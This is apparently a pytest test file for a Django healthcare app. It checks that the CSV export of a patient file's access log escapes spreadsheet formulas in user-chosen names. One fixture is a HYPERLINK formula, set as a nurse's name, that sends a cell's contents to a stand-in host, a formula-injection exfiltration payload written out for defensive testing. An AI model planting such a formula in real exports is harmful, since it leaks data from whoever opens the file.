"""The "Wie heeft dit dossier ingezien?" CSV: names chosen by users never become formulas."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from network.csv_export import csv_safe

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://kwaad.example/?d="&A1;"Klik")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+31 58 123 4567", "'+31 58 123 4567"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("  =1+1", "'  =1+1"),
        ("\n=1+1", "'\n=1+1"),
        # Ordinary cells stay as they are.
        ("Gerrit Postma <gp@delinde.nl>", "Gerrit Postma <gp@delinde.nl>"),
        ("14-03-2026 10:00:00", "14-03-2026 10:00:00"),
        ("Jan-Willem", "Jan-Willem"),
        ("", ""),
        (None, ""),
    ],
)
def test_a_cell_that_a_spreadsheet_would_run_is_written_as_text(value, written):
    assert csv_safe(value) == written


def test_a_formula_as_a_name_lands_as_text_in_the_access_log_csv(
    gp, nurse, nursing, shared_patient, login_with_totp, client
):
    nurse.first_name = FORMULA
    nurse.save(update_fields=["first_name"])
    nursing.name = "@SUM(1+1) Thuiszorg"
    nursing.save(update_fields=["name"])
    login_with_totp(nurse, client=client)
    client.get(reverse("network:patient-detail", args=[shared_patient.pk]))
    client.logout()

    login_with_totp(gp, client=client)
    response = client.get(reverse("network:patient-access-log-export", args=[shared_patient.pk]))

    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    nurse_rows = [row for row in rows if "HYPERLINK" in row[1]]
    assert nurse_rows, rows
    for row in nurse_rows:
        assert row[1].startswith("'=HYPERLINK(")
        assert row[2] == "'@SUM(1+1) Thuiszorg"
    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@")]
